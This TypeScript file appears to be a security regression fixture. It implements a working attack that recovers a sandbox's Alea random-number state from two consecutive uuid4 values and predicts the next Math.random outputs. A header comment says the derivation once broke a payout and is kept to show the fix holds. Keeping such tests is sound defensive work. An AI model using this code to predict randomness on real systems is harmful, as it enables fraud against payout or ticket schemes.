/**
 * The derivation that broke the payout (security finding 1), kept to show it no
 * longer works. The workflow sandbox's Math.random and uuid4 share one Alea
 * generator: a lag-3 multiply-with-carry, X[k] = (a·X[k-3] + c[k-1]) mod 2³²,
 * whose every output is a 32-bit state word. A uuid4 shows four consecutive
 * outputs (less 6 version and variant bits), so two of them in a row (a face
 * ticket, then a review id) pin the state and every draw that follows.
 */
const A = 2091639n;
const WORD = 1n << 32n;

interface Observed {
  value: bigint;
  /** Bits of `value` the uuid shows; the rest are overwritten by its version and variant. */
  known: bigint;
}

function words(uuid: string): Observed[] {
  const hex = uuid.replace(/-/g, '');
  if (!/^[0-9a-f]{32}$/i.test(hex)) throw new Error(`not a uuid: ${uuid}`);
  const all = 0xffffffffn;
  const masks = [all, all & ~0xf000n, all & ~0xc0000000n, all];
  return masks.map((known, i) => ({ value: BigInt(`0x${hex.slice(i * 8, i * 8 + 8)}`) & known, known }));
}

const fits = (candidate: bigint, observed: Observed) => (candidate & observed.known) === observed.value;

/** Every full value the observed word can stand for. */
function candidates(observed: Observed): bigint[] {
  const unknownBits: bigint[] = [];
  for (let bit = 0n; bit < 32n; bit++) if (!((observed.known >> bit) & 1n)) unknownBits.push(bit);
  const found: bigint[] = [];
  for (let combo = 0; combo < 1 << unknownBits.length; combo++) {
    let value = observed.value;
    unknownBits.forEach((bit, i) => {
      if ((combo >> i) & 1) value |= 1n << bit;
    });
    found.push(value);
  }
  return found;
}

/**
 * From two uuid4s drawn one right after the other, the next `count` outputs of
 * Math.random; null when no state of the generator yields both uuids.
 */
export function predictNextRandoms(first: string, second: string, count: number): number[] | null {
  const y = [...words(first), ...words(second)];
  for (const y1 of candidates(y[0]!)) {
    const y4 = y[3]!.value;
    const c3 = (((y4 - A * y1) % WORD) + WORD) % WORD;
    if (c3 >= A) continue;
    const c4 = (A * y1 + c3) / WORD;
    for (const y2 of candidates(y[1]!)) {
      const t5 = A * y2 + c4;
      if (!fits(t5 % WORD, y[4]!)) continue;
      for (const y3 of candidates(y[2]!)) {
        const t6 = A * y3 + t5 / WORD;
        if (!fits(t6 % WORD, y[5]!)) continue;
        const t7 = A * y4 + t6 / WORD;
        if (!fits(t7 % WORD, y[6]!)) continue;
        const t8 = A * (t5 % WORD) + t7 / WORD;
        if (!fits(t8 % WORD, y[7]!)) continue;
        // The state after the second uuid: its last three outputs and the carry.
        const state = [t6 % WORD, t7 % WORD, t8 % WORD];
        let carry = t8 / WORD;
        const next: number[] = [];
        for (let i = 0; i < count; i++) {
          const t = A * state[0]! + carry;
          carry = t / WORD;
          state.shift();
          state.push(t % WORD);
          next.push(Number(t % WORD) / 2 ** 32);
        }
        return next;
      }
    }
  }
  return null;
}
